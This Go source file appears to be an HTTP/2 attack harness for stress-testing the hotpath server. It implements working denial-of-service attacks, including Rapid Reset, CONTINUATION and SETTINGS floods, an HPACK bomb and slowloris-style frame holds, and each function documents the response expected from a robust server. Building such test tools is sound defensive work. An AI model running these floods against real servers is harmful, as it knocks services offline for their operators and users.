package h2attack

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/hotpathhq/hotpath/wire/h2"
)

// sleep waits d, or until ctx ends (false).
func sleep(ctx context.Context, d time.Duration) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return true
	case <-ctx.Done():
		return false
	}
}

// Holds.

// How long the partial-frame attacks wait after their request's answer
// before they cut a frame in two (Config.CutAfter): by default past the
// 100 ms after which hotpath's engine trims an idle connection
// (h2IdleTrim), so that the cut frame is the first thing an idle,
// trimmed connection reads; PartialFrameEarly's well before it, so that
// the connection meets its trim with the cut frame in its buffer.
const (
	idleWait  = 300 * time.Millisecond
	earlyWait = 10 * time.Millisecond
)

// cutAt is how many bytes of the PING's 9-byte frame header the
// partial-frame attacks send first.
const cutAt = 5

// pingData is the partial-frame attacks' PING payload.
var pingData = [8]byte{'h', '2', 'a', 't', 't', 'a', 'c', 'k'}

// How a partial-frame attack ends its cut frame.
const (
	completeFrame = iota // send the rest of the frame
	halfClose            // close the write side, keep reading
	closeConn            // close the connection
)

// PartialFrame makes one GET request (Config.Path, default "/"), reads
// its whole answer, waits Config.CutAfter (default 300 ms: past the
// engine's idle trim), then sends the first 5 bytes of a PING frame's
// 9-byte header and holds for Config.Hold, or until ctx ends. Then it
// sends the rest of the frame and waits up to Config.Reply (not bounded
// by ctx) for the PING ACK: Result.PingAcked. A server should spend
// nothing on the connection while the frame is cut, and answer the PING
// once it completes.
func PartialFrame(ctx context.Context, cfg Config) (Result, error) {
	return partialFrame(ctx, cfg, "partial-frame", completeFrame)
}

// PartialFrameEarly is PartialFrame with Config.CutAfter 10 ms: it cuts
// its frame before the engine's idle trim and holds it across the trim.
func PartialFrameEarly(ctx context.Context, cfg Config) (Result, error) {
	cfg.CutAfter = earlyWait
	return partialFrame(ctx, cfg, "partial-frame-early", completeFrame)
}

// PartialFrameEOF is PartialFrame that, instead of completing its cut
// frame after the hold, closes its write side (TCP FIN, or TLS
// close_notify) and reads on, until the server closes the connection,
// for up to Config.Reply. A server should close the connection at once,
// its goroutines gone.
func PartialFrameEOF(ctx context.Context, cfg Config) (Result, error) {
	return partialFrame(ctx, cfg, "partial-frame-eof", halfClose)
}

// PartialFrameClose is PartialFrame that, instead of completing its cut
// frame after the hold, closes the connection and returns. The server's
// side of it must go away (no goroutine, no CPU left behind): only the
// server can tell.
func PartialFrameClose(ctx context.Context, cfg Config) (Result, error) {
	return partialFrame(ctx, cfg, "partial-frame-close", closeConn)
}

func partialFrame(ctx context.Context, cfg Config, name string, end int) (Result, error) {
	r := newRun(name, cfg)
	reply := cfg.reply()
	wait := cfg.CutAfter
	if wait <= 0 {
		wait = idleWait
	}
	// The connection outlives ctx: the cut frame is completed after the
	// hold, however the hold ended.
	cctx, cancel := context.WithCancel(context.WithoutCancel(ctx))
	defer cancel()
	c, err := r.dial(cctx, dialOpts{credit: true})
	if err != nil {
		return r.result(), err
	}
	defer c.close()
	path := cfg.path("/")
	id, err := c.request("GET", path, true, nil)
	if err != nil {
		return r.result(), err
	}
	if !c.waitFor(ctx, reply, func() bool { return c.ended[id] || c.closed }) || c.isClosed() {
		return r.result(), fmt.Errorf("h2attack: %s: no whole answer to GET %s within %v: %v", name, path, reply, r.result())
	}
	if !sleep(ctx, wait) {
		return r.result(), ctx.Err()
	}
	ping := h2.AppendPing(nil, 0, pingData)
	c.wmu.Lock() // nothing may come between the two halves
	if err := c.writeLocked(ping[:cutAt]); err != nil {
		c.wmu.Unlock()
		return r.result(), err
	}
	r.onHold()
	var timeout <-chan time.Time
	if cfg.Hold > 0 {
		t := time.NewTimer(cfg.Hold)
		defer t.Stop()
		timeout = t.C
	}
	select {
	case <-ctx.Done():
	case <-timeout:
	case <-c.readDone:
	}
	switch end {
	case completeFrame:
		err := c.writeLocked(ping[cutAt:])
		c.wmu.Unlock()
		if err == nil {
			c.waitFor(cctx, reply, func() bool { return c.acked[pingData] || c.closed })
		}
		c.mu.Lock()
		acked := c.acked[pingData]
		c.mu.Unlock()
		r.mu.Lock()
		r.pingAcked = acked
		r.mu.Unlock()
	case halfClose:
		c.wmu.Unlock()
		if err := c.closeWrite(); err != nil && !c.isClosed() {
			return r.result(), err
		}
		c.waitFor(cctx, reply, func() bool { return c.closed })
	case closeConn:
		c.wmu.Unlock()
		c.close()
	}
	return r.result(), c.err()
}

// ZeroWindow sets SETTINGS_INITIAL_WINDOW_SIZE to 0, requests a body
// (Config.Path, default /bytes/1048576) and never sends a WINDOW_UPDATE:
// the server has an answer it may not send. It holds until ctx ends or
// the server closes the connection. A server should spend nothing on the
// stalled stream (and may reset it once its write stall timeout passes).
func ZeroWindow(ctx context.Context, cfg Config) (Result, error) {
	r := newRun("zero-window", cfg)
	c, err := r.dial(ctx, dialOpts{settings: []h2.Setting{{ID: h2.SettingInitialWindowSize, Val: 0}}})
	if err != nil {
		return r.result(), err
	}
	defer c.close()
	id, err := c.request("GET", cfg.path("/bytes/1048576"), true, nil)
	if err != nil {
		return r.result(), err
	}
	c.waitFor(ctx, cfg.reply(), func() bool { return c.status[id] != "" || c.ended[id] || c.closed })
	r.onHold()
	c.wait(ctx, func() bool { return c.closed })
	return r.result(), c.err()
}

// SlowReader requests a large body (Config.Path, default
// /bytes/1073741824) and reads it at Config.Rate bytes a second (default
// 2 MiB/s): it reads the socket at that pace and gives back flow-control
// credit, for the stream and the connection, only for what it has read.
// Its receive windows are Config.Window. It holds until the body ends,
// ctx ends or the server closes the connection. A server should spend
// CPU in proportion to what it sends, not to the time the stream is open.
func SlowReader(ctx context.Context, cfg Config) (Result, error) {
	r := newRun("slow-reader", cfg)
	opts := dialOpts{rate: cfg.Rate, credit: true}
	if opts.rate <= 0 {
		opts.rate = 2 << 20
	}
	if w := cfg.Window; w > 0 && w != h2.DefaultInitialWindowSize {
		opts.settings = []h2.Setting{{ID: h2.SettingInitialWindowSize, Val: w}}
		if w > h2.DefaultInitialWindowSize {
			opts.connInc = w - h2.DefaultInitialWindowSize
		}
	}
	c, err := r.dial(ctx, opts)
	if err != nil {
		return r.result(), err
	}
	defer c.close()
	id, err := c.request("GET", cfg.path("/bytes/1073741824"), true, nil)
	if err != nil {
		return r.result(), err
	}
	c.waitFor(ctx, cfg.reply(), func() bool { return c.status[id] != "" || c.ended[id] || c.closed })
	r.onHold()
	c.wait(ctx, func() bool { return c.ended[id] || c.closed })
	return r.result(), c.err()
}

// Floods.

// RapidReset (CVE-2023-44487) keeps Config.Conns connections (default
// 4) busy opening streams, each a GET of Config.Path (default
// /delay/30000) cancelled at once with RST_STREAM (CANCEL), with rising
// stream identifiers, until ctx ends. As a real attacker would, it
// reconnects whenever the server sends GOAWAY or closes a connection.
// Result.Streams counts the streams opened, Result.GoAways the GOAWAYs.
// A server should bound the handlers that run per connection (their
// streams are gone, but a handler that ignores its context runs on) and
// cut connections that reset too fast.
func RapidReset(ctx context.Context, cfg Config) (Result, error) {
	return reconnecting(ctx, cfg, "rapid-reset", func(ctx context.Context, c *conn, path string) {
		c.burst(ctx, func(b []byte, id uint32, blk []byte) []byte {
			b = h2.AppendHeaders(b, id, h2.FlagEndHeaders|h2.FlagEndStream, h2.Priority{}, blk, 0)
			return h2.AppendRSTStream(b, id, h2.ErrCodeCancel)
		})
	})
}

// floodFrames is how many frames a flood sends in one write.
const floodFrames = 100

// flood runs a flood: setup (may be nil) once, then the writes batch
// returns (called under wmu), as fast as the server reads them, until
// ctx ends or the server sends GOAWAY or closes; then it waits up to
// Config.Reply for the server to close (unless Config.LeaveOnGoAway).
func flood(ctx context.Context, cfg Config, name string, setup func(c *conn) error, batch func(c *conn) []byte) (Result, error) {
	r := newRun(name, cfg)
	c, err := r.dial(ctx, dialOpts{credit: true})
	if err != nil {
		return r.result(), err
	}
	defer c.close()
	if setup != nil {
		if err := setup(c); err != nil {
			return r.result(), err
		}
	}
	r.onHold()
	for ctx.Err() == nil && !c.isClosed() && !c.sawGoAway() {
		c.wmu.Lock()
		b := batch(c)
		err := c.writeLocked(b)
		c.wmu.Unlock()
		if err != nil || len(b) == 0 {
			break
		}
	}
	if !cfg.LeaveOnGoAway || !c.sawGoAway() {
		c.waitFor(ctx, cfg.reply(), func() bool { return c.closed })
	}
	return r.result(), c.err()
}

// repeat returns a batch of floodFrames frames that frame appends.
func repeat(frame func(b []byte) []byte) func(c *conn) []byte {
	var b []byte
	for range floodFrames {
		b = frame(b)
	}
	return func(*conn) []byte { return b }
}

// WindowUpdateFlood sends WINDOW_UPDATE frames of increment 1 on the
// connection, as fast as the server reads them.
func WindowUpdateFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "window-update-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendWindowUpdate(b, 0, 1)
	}))
}

// unknownType is a frame type no RFC defines, which a receiver must
// ignore (RFC 9113 §4.1, §5.5).
const unknownType h2.FrameType = 0xfa

// UnknownFrameFlood sends empty frames of an undefined type (0xfa) on
// stream 0, which the server must ignore, as fast as it reads them.
func UnknownFrameFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "unknown-frame-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendFrameHeader(b, h2.FrameHeader{Type: unknownType})
	}))
}

// SettingsFlood (CVE-2019-9515) sends empty SETTINGS frames, each of
// which the server must acknowledge, reading every acknowledgement.
func SettingsFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "settings-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendSettings(b)
	}))
}

// PingFlood (CVE-2019-9512) sends PINGs, each of which the server must
// answer, reading every answer.
func PingFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "ping-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendPing(b, 0, [8]byte{'f', 'l', 'o', 'o', 'd'})
	}))
}

// PriorityFlood sends PRIORITY frames for an idle stream (3, depending
// on 1), which carry no request.
func PriorityFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "priority-flood", nil, repeat(func(b []byte) []byte {
		return h2.AppendPriority(b, 3, h2.Priority{StreamDep: 1, Weight: 15})
	}))
}

// EmptyDataFlood (CVE-2019-9518) opens a POST (Config.Path, default
// /discard) and sends empty DATA frames without END_STREAM on it.
func EmptyDataFlood(ctx context.Context, cfg Config) (Result, error) {
	var id uint32
	setup := func(c *conn) (err error) {
		id, err = c.request("POST", cfg.path("/discard"), false, nil)
		return err
	}
	var b []byte
	return flood(ctx, cfg, "empty-data-flood", setup, func(*conn) []byte {
		if b == nil {
			for range floodFrames {
				b = h2.AppendData(b, id, 0, nil, 0)
			}
		}
		return b
	})
}

// ContinuationFlood (CVE-2024-27316) opens a GET (Config.Path, default
// "/") whose HEADERS lack END_HEADERS, then sends CONTINUATION frames
// without END_HEADERS forever, each a small valid field (x-a: b), so that
// the block stays well-formed HPACK wherever it is cut.
func ContinuationFlood(ctx context.Context, cfg Config) (Result, error) {
	var id uint32
	setup := func(c *conn) error {
		c.wmu.Lock()
		defer c.wmu.Unlock()
		id = c.nextID
		c.nextID += 2
		c.scratch = c.requestBlockLocked("GET", cfg.path("/"))
		c.r.streams.Add(1)
		return c.writeLocked(h2.AppendHeaders(nil, id, h2.FlagEndStream, h2.Priority{}, c.scratch, 0))
	}
	field := appendLiteral(nil, "x-a", "b")
	var b []byte
	return flood(ctx, cfg, "continuation-flood", setup, func(*conn) []byte {
		if b == nil {
			for range floodFrames {
				b = h2.AppendContinuation(b, id, 0, field)
			}
		}
		return b
	})
}

// bombRefs is how many times an HPACK bomb block refers to its entry.
const bombRefs = 4000

// HPACKBomb opens GET streams ("/", or Config.Path) whose header block
// refers bombRefs (4000) times to one dynamic table entry that fills the
// server's table (a 4 KB value with the default HEADER_TABLE_SIZE): the
// first block inserts the entry, each 4 KB block decodes to some 16 MB.
// It sends them as fast as the server reads them. A server should stop
// decoding at its header list limit: answer 431 at little cost, or end
// the connection (ENHANCE_YOUR_CALM, COMPRESSION_ERROR).
//
// Its blocks are written by hand (the entry is inserted behind the
// connection's h2.Encoder's back), with no other use of the table.
func HPACKBomb(ctx context.Context, cfg Config) (Result, error) {
	const name = "x-bomb"
	var block, first []byte
	setup := func(c *conn) error {
		table := uint32(h2.DefaultMaxTableSize)
		if v, ok := c.setting(h2.SettingHeaderTableSize); ok {
			table = v
		}
		if table < 32+uint32(len(name))+1 {
			return fmt.Errorf("h2attack: hpack-bomb: the server's HEADER_TABLE_SIZE (%d) holds no entry", table)
		}
		block = appendRawRequest(nil, c.scheme, c.authority, cfg.path("/"))
		first = appendInsert(append([]byte(nil), block...), name, strings.Repeat("b", int(table)-32-len(name)))
		for range bombRefs {
			block = appendIndexed(block, firstDynamicIndex)
			first = appendIndexed(first, firstDynamicIndex)
		}
		return nil
	}
	var b []byte
	return flood(ctx, cfg, "hpack-bomb", setup, func(c *conn) []byte {
		blk := block
		if first != nil {
			blk, first = first, nil
		}
		id := c.nextID
		if id > h2.MaxStreamID {
			return nil
		}
		c.nextID += 2
		c.r.streams.Add(1)
		b = h2.AppendHeaderBlock(b[:0], id, true, blk, h2.DefaultMaxFrameSize)
		return b
	})
}

// One-shots.

// oneShot runs send, which sends one bad request (or bytes) and returns
// its stream (0 for none), then waits up to Config.Reply for an answer:
// a status, a reset, a GOAWAY or the connection's end; after a GOAWAY, up
// to Config.Reply more for the server to close (unless
// Config.LeaveOnGoAway).
func oneShot(ctx context.Context, cfg Config, name string, send func(c *conn) (uint32, error)) (Result, error) {
	r := newRun(name, cfg)
	c, err := r.dial(ctx, dialOpts{credit: true})
	if err != nil {
		return r.result(), err
	}
	defer c.close()
	id, err := send(c)
	if err != nil {
		return r.result(), err
	}
	c.waitFor(ctx, cfg.reply(), func() bool {
		return id != 0 && (c.status[id] != "" || c.ended[id]) || c.goAway || c.closed
	})
	if c.sawGoAway() && !cfg.LeaveOnGoAway {
		c.waitFor(ctx, cfg.reply(), func() bool { return c.closed })
	}
	return r.result(), c.err()
}

// HeaderListTooLarge sends a GET (Config.Path, default "/") whose
// header list is a few KB over the SETTINGS_MAX_HEADER_LIST_SIZE the
// server advertised (1 MiB when it advertised none): fields of 4 KB
// (none of them over a limit on one string) up to 12 KB under the limit,
// then, alone in the block's last frame, one of 16 KB that takes it over.
// The values are Huffman-coded (5 bytes for 8) and the limit is passed
// in the last frame, whose 10 KB are under twice what the list has left:
// net/http ends the connection (PROTOCOL_ERROR) for a frame larger than
// that, or a CONTINUATION after the list has overflowed. A server should
// answer 431 and keep the connection.
func HeaderListTooLarge(ctx context.Context, cfg Config) (Result, error) {
	return oneShot(ctx, cfg, "header-list-too-large", func(c *conn) (uint32, error) {
		limit, ok := c.setting(h2.SettingMaxHeaderListSize)
		if !ok {
			limit = 1 << 20
		}
		if limit > 16<<20 {
			return 0, fmt.Errorf("h2attack: header-list-too-large: the server takes header lists of %d bytes", limit)
		}
		const small, big = 4 << 10, 16 << 10
		c.wmu.Lock()
		defer c.wmu.Unlock()
		blk := c.requestBlockLocked("GET", cfg.path("/"))
		size := 4 * 32 // the pseudo-header fields, roughly
		for i := 0; ; i++ {
			name := fmt.Sprintf("x-big-%d", i)
			n := len(name) + small + 32 // as RFC 9113 §6.5.2 counts
			if size+n > int(limit)-12<<10 {
				break
			}
			blk = appendHuffmanAs(blk, name, small)
			size += n
		}
		c.scratch = blk
		last := appendHuffmanAs(nil, "x-big-last", big)
		id := c.nextID
		c.nextID += 2
		c.r.streams.Add(1)
		var b []byte
		for first := true; len(blk) > 0; first = false {
			frag := blk[:min(len(blk), h2.DefaultMaxFrameSize)]
			blk = blk[len(frag):]
			if first {
				b = h2.AppendHeaders(b, id, h2.FlagEndStream, h2.Priority{}, frag, 0)
			} else {
				b = h2.AppendContinuation(b, id, 0, frag)
			}
		}
		b = h2.AppendContinuation(b, id, h2.FlagEndHeaders, last)
		c.r.onHold()
		return id, c.writeLocked(b)
	})
}

// InvalidHuffman sends a GET (Config.Path, default "/") with a field
// whose Huffman-coded value holds the EOS symbol (RFC 7541 §5.2). A
// server should end the connection with COMPRESSION_ERROR.
func InvalidHuffman(ctx context.Context, cfg Config) (Result, error) {
	return oneShot(ctx, cfg, "invalid-huffman", func(c *conn) (uint32, error) {
		c.r.onHold()
		return c.request("GET", cfg.path("/"), true, appendBadHuffman(nil, "x-bad"))
	})
}

// GarbageAfterPreface sends 256 bytes of text where frames belong, after
// the preface and SETTINGS: read as a frame header, it announces a frame
// far over any size limit. A server should send GOAWAY and close.
func GarbageAfterPreface(ctx context.Context, cfg Config) (Result, error) {
	garbage := strings.Repeat("this is not a frame. ", 13)[:256]
	return oneShot(ctx, cfg, "garbage-after-preface", func(c *conn) (uint32, error) {
		c.r.onHold()
		return 0, c.write([]byte(garbage))
	})
}
